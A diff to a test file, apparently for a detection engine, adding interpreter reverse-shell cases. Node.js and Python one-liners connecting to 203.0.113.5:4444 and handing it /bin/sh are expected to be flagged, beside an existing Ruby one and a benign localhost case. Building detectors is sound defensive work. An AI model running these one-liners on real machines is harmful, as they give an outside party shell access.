@@ -259,6 +259,15 @@ def test_reverse_shells(engine, argv, expected):
     (["ruby", "-rsocket", "-e", "f=TCPSocket.open('203.0.113.5',4444).to_i;"
       "exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)"], "/usr/bin/ruby3.1", ["interpreter_reverse_shell"]),
     (["python3", "-c", "import socket; print(socket.gethostname())"], "/usr/bin/python3.11", []),
+    (["node", "-e", "var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);"
+      "var c=new net.Socket();c.connect(4444,'203.0.113.5',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});"],
+     "/usr/bin/node", ["interpreter_reverse_shell"]),
+    (["python3", "-c", "import socket,subprocess;s=socket.create_connection(('203.0.113.5',4444));"
+      "subprocess.Popen(['sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())"],
+     "/usr/bin/python3.11", ["interpreter_reverse_shell"]),
+    # a socket and another program, no shell on it: agent work (found by the soak test)
+    (["python3", "-c", "import socket, subprocess; s = socket.create_connection(('127.0.0.1', 8000)); "
+      "subprocess.run(['/bin/true', 'step-1'])"], "/usr/bin/python3.11", []),
     (["python3", "train.py", "--epochs", "3"], "/usr/bin/python3.11", []),
 ])
 def test_interpreter_reverse_shells(engine, argv, exe, expected):
